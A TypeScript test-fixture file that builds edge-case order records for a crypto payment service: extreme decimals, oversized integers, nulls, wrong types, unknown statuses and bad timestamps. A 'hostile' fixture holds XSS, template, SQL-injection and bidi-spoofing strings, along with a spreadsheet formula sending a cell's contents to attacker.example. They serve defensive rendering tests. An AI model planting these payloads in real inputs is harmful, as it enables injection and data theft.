/** Orders whose point is what a record may hold or leave out: extremes, silence, and broken types. */
import { exactNumber } from '../../../electron/payment-service/signing/json-value.ts';
import { refundOf, type Desk } from '../desk.ts';
import { draft, first } from '../draft.ts';
import type { OrderRecord } from '../order-record.ts';
import type { Scene } from '../scene.ts';

function paid(desk: Desk): OrderRecord {
  const order = draft(desk, {
    price: { amount: '58.00', currency: 'USDT' },
    created: desk.before({ h: 3, min: 5 }),
    payer: 'weber',
    items: [desk.item('SKU-1407', 'Bicycle light', '29.00', 'USDT', '2')],
  });
  return {
    ...order,
    status: 'paid',
    transact_time: desk.before({ h: 2, min: 58 }),
    payment_detail: [desk.payment(first(order.payment_info))],
  };
}

const everyFieldNull = (order: OrderRecord) =>
  Object.fromEntries(Object.keys(order).map((name) => [name, name === 'service_id' ? order.service_id : null]));

/** Markup, scripts, formulas, bidi controls, zero-width and combining characters; no NUL. */
const hostile = {
  markup: '<img src=x onerror="document.title=1"><script>alert(1)</script>',
  template: '{{constructor.constructor("return 1")()}} ${1+1} %s %n',
  formula: '=HYPERLINK("https://attacker.example/?x="&A1,"open")',
  bidi: 'user\u202Egpj.exe\u202C \u2066left\u2069 \u200Fright',
  invisible: 'pay\u200Bpal \uFEFFnot\u00ADing\u2060 visible',
  stacked: `Z${'\u0351\u0363\u0489'.repeat(12)}algo`,
  emoji: '👩‍👩‍👧‍👦🏳️‍🌈 मराठी العربية',
  breaks: 'first line\r\nsecond line\u2028third\tfourth',
  quotes: `"'\`;--,\\ Robert'); DROP TABLE orders;`,
  unbroken: 'x'.repeat(400),
} as const;

export const oddScenes: readonly Scene[] = [
  {
    name: 'no-items',
    concludes: 'Paid in full; the goods are an empty list, which is not the same as not given.',
    record: (desk) => ({
      ...paid(desk),
      order_details: { shopping_cost: exactNumber('0'), tax_cost: exactNumber('0'), items: [] },
    }),
  },
  {
    name: 'eighteen-decimals',
    concludes: 'Paid too little by 0.000000000000000001 ETH: every one of 18 decimals counts.',
    record: (desk) => {
      const order = draft(desk, {
        price: { amount: '1.234567890123456789', currency: 'ETH', rate: '1' },
        created: desk.before({ h: 9 }),
        tokens: ['ETH-ETHEREUM'],
        payer: 'novak',
      });
      const option = { ...first(order.payment_info), receive_amount: '1.234567890123456789' };
      return {
        ...order,
        payment_info: [option],
        status: 'paid_partial',
        transact_time: desk.before({ h: 8, min: 55 }),
        payment_detail: [
          desk.payment(option, '0.234567890123456788', 0),
          desk.payment(option, '1.000000000000000000', 1),
        ],
        order_details: {
          shopping_cost: exactNumber('0.000000000000000001'),
          tax_cost: exactNumber('0.000000000000000000'),
          items: [desk.item('SKU-0001', 'Digital print, edition of one', '1.234567890123456788', 'ETH')],
        },
      };
    },
  },
  {
    name: 'huge-int64',
    concludes: 'Paid and refunded; refund number and quantity lie beyond 2^53 and must keep every digit.',
    record: (desk) => {
      const price = { amount: '90071992547409.93', currency: 'USDT' };
      const order = draft(desk, {
        price,
        created: desk.before({ h: 3, min: 5 }),
        payer: 'okafor',
        items: [desk.item('SKU-0002', 'Metered unit', '0.01', 'USDT', '9007199254740993')],
      });
      const payment = desk.payment(first(order.payment_info));
      const refund = refundOf(desk, payment, order, {
        amount: price.amount,
        fee: '0.93',
        actual: '90071992547409.00',
        full: true,
        status: 1,
        transaction: desk.transaction('USDT-TRC20', 8),
        created: desk.before({ h: 2, min: 30 }),
        updated: desk.before({ h: 2, min: 21 }),
      });
      return {
        ...order,
        status: 'paid',
        transact_time: desk.before({ h: 2, min: 58 }),
        payment_detail: [payment],
        refund_requested: 'yes',
        refund_data: { ...refund, refund_id: exactNumber('9223372036854775807') },
      };
    },
  },
  {
    name: 'huge-amount',
    concludes: 'Paid in full: an amount of 30 digits that no float can hold.',
    record: (desk) => {
      const order = draft(desk, {
        price: { amount: '123456789012345678901234.567890', currency: 'USDT' },
        created: desk.before({ h: 11 }),
        tokens: ['USDT-TRC20'],
        payer: 'obrien',
      });
      return {
        ...order,
        status: 'paid',
        transact_time: desk.before({ h: 10, min: 50 }),
        payment_detail: [desk.payment(first(order.payment_info))],
      };
    },
  },
  {
    name: 'hostile-text',
    concludes: 'Paid in full; names, remark and goods hold markup, formulas and invisible characters, all mere text.',
    record: (desk) => {
      const order = paid(desk);
      return {
        ...order,
        order_id: hostile.quotes,
        payer_id: hostile.formula,
        payer_name: hostile.markup,
        payer_email: `${hostile.bidi}@mail.example`,
        remark: `${hostile.breaks} ${hostile.template} ${hostile.unbroken}`,
        payment_info: order.payment_info.map((option) => ({
          ...option,
          logo_url: 'javascript:alert(1)',
          asset_logo: 'https://attacker.example/pixel.gif',
        })),
        order_details: {
          shopping_cost: exactNumber('0'),
          tax_cost: exactNumber('0'),
          items: [
            desk.item(hostile.formula, hostile.stacked, '29.00', 'USDT'),
            desk.item(hostile.invisible, hostile.emoji, '29.00', 'USDT'),
          ],
        },
        sub_merchant: { sub_merchant_id: hostile.bidi, sub_merchant_name: hostile.markup },
      };
    },
  },
  {
    name: 'fifty-items',
    concludes: 'Paid in full; fifty goods and eight options, so that long lists have something to show.',
    record: (desk) => {
      const order = draft(desk, {
        price: { amount: '1275.00', currency: 'USD' },
        created: desk.before({ h: 12 }),
        tokens: [
          'USDT-TRC20',
          'USDT-ERC20',
          'USDC-ERC20',
          'USDC-POLYGON',
          'USDT-BEP20',
          'ETH-ETHEREUM',
          'BTC-BITCOIN',
          'TRX-TRON',
        ],
        payer: 'lindqvist',
        items: Array.from({ length: 50 }, (_, nth) =>
          desk.item(`SKU-${6000 + nth}`, `Seed packet no. ${nth + 1}`, `${nth + 1}.00`, 'USD'),
        ),
      });
      return {
        ...order,
        status: 'paid',
        transact_time: desk.before({ h: 11, min: 48 }),
        payment_detail: [desk.payment(first(order.payment_info))],
      };
    },
  },
  {
    name: 'unknown-status',
    concludes:
      'The state is one that the specification does not name: it is shown as it came, and nothing is concluded.',
    breaks: ['status', 'settlement_status', 'settlement_type'],
    record: (desk) => ({
      ...paid(desk),
      status: 'under_review',
      settlement_status: 'frozen',
      settlement_type: 'escrow',
    }),
  },
  {
    name: 'unknown-refund-status',
    concludes:
      'Refund status and type are numbers that the specification does not name: the refund’s state is not known.',
    breaks: ['refund_requested', 'refund_data.refund_status', 'refund_data.type'],
    record: (desk) => {
      const order = paid(desk);
      const refund = refundOf(desk, first(order.payment_detail), order, {
        amount: '10.00',
        fee: '1.00',
        actual: '9.00',
        status: 7,
        created: desk.before({ h: 2 }),
        updated: desk.before({ h: 1 }),
      });
      return { ...order, refund_requested: 'partly', refund_data: { ...refund, type: 3 } };
    },
  },
  {
    name: 'null-everything',
    concludes: 'Every field but the order number is null: nothing is known, and nothing may be made up.',
    breaks: ['*'],
    record: (desk) => everyFieldNull(paid(desk)),
  },
  {
    name: 'absent-everything',
    concludes: 'Every field but the order number is missing: nothing is known, and nothing may be made up.',
    breaks: ['*'],
    record: (desk) => ({ service_id: desk.serviceId }),
  },
  {
    name: 'empty-everything',
    concludes: 'Texts and lists are empty instead of null: given, yet saying nothing.',
    breaks: ['*'],
    record: (desk) => ({
      ...Object.fromEntries(
        Object.entries(paid(desk)).map(([name, value]) => [name, typeof value === 'string' ? '' : value]),
      ),
      service_id: desk.serviceId,
      refund_data: {},
      payment_detail: [],
      payment_info: [],
      order_details: {},
      sub_merchant: {},
    }),
  },
  {
    name: 'null-inside',
    concludes: 'A payment without amount: the sum is not known, though the rest of the record is.',
    breaks: ['payment_detail[].pay_amount', 'payment_detail[].tx_id', 'payment_info[].receive_amount'],
    record: (desk) => {
      const order = paid(desk);
      return {
        ...order,
        payment_detail: order.payment_detail.map((payment) => ({ ...payment, pay_amount: null, tx_id: null })),
        payment_info: order.payment_info.map((option) => ({ ...option, receive_amount: null })),
      };
    },
  },
  {
    name: 'wrong-types',
    concludes: 'Amounts as numbers, times as text, lists as objects: what cannot be read is shown as it came.',
    breaks: ['*'],
    record: (desk) => {
      const order = paid(desk);
      return {
        ...order,
        order_amount: exactNumber('58.00'),
        created_time: String(order.created_time),
        transact_time: 'yesterday',
        valid_time: '30',
        status: 1,
        refund_requested: false,
        payer_name: ['Jonas', 'Weber'],
        payment_detail: { 0: first(order.payment_detail) },
        payment_info: 'none',
        order_details: [],
        sub_merchant: 'SM-0417',
      };
    },
  },
  {
    name: 'unreadable-amounts',
    concludes: 'Amounts are no plain decimals (an exponent, words, a comma): no sum is known.',
    breaks: ['order_amount', 'payment_detail[].receive_amount', 'payment_detail[].pay_amount'],
    record: (desk) => {
      const order = paid(desk);
      const payment = first(order.payment_detail);
      return {
        ...order,
        order_amount: '58,00',
        payment_detail: [
          { ...payment, receive_amount: 'NaN', pay_amount: '1e-7' },
          { ...payment, tx_id: desk.transaction('USDT-TRC20', 1), pay_amount: 'fifty' },
        ],
      };
    },
  },
  {
    name: 'unknown-fields',
    concludes: 'Paid in full; the record has fields that the specification does not know, kept in the raw answer.',
    breaks: ['risk_score', 'payment_detail[].confirmations'],
    record: (desk) => {
      const order = paid(desk);
      return {
        ...order,
        risk_score: exactNumber('0.07'),
        payment_detail: order.payment_detail.map((payment) => ({ ...payment, confirmations: 19 })),
      } as OrderRecord;
    },
  },
  {
    name: 'zero-times',
    concludes: 'Never paid; times that have not come are 0, which does not mean 1970.',
    breaks: ['cancel_time', 'transact_time'],
    record: (desk) => ({
      ...draft(desk, {
        price: { amount: '33.00', currency: 'USDT' },
        created: desk.before({ min: 8 }),
        payer: 'tanaka',
      }),
      cancel_time: 0,
      transact_time: 0,
    }),
  },
  {
    name: 'times-in-seconds',
    concludes: 'Times have 10 digits instead of 13: they are not milliseconds, and are not to be shown as 1970.',
    breaks: ['created_time', 'transact_time'],
    record: (desk) => {
      const order = paid(desk);
      return {
        ...order,
        created_time: Math.floor(order.created_time / 1000),
        transact_time: order.transact_time === null ? null : Math.floor(order.transact_time / 1000),
      };
    },
  },
  {
    name: 'times-out-of-order',
    concludes: 'Completed before it was created: at least one of the two times is wrong.',
    record: (desk) => ({ ...paid(desk), transact_time: desk.before({ h: 3, min: 20 }) }),
  },
  {
    name: 'validity-out-of-range',
    concludes: 'Paid in full; a validity of 1440 minutes is beyond the 10 to 60 that the specification allows.',
    breaks: ['valid_time'],
    record: (desk) => ({ ...paid(desk), valid_time: 1440 }),
  },
  {
    name: 'another-order',
    concludes: 'The record carries another order number than was asked for: it must not be taken for the order.',
    breaks: ['service_id'],
    record: (desk) => ({ ...paid(desk), service_id: `${desk.serviceId.slice(0, -1)}_` }),
  },
];
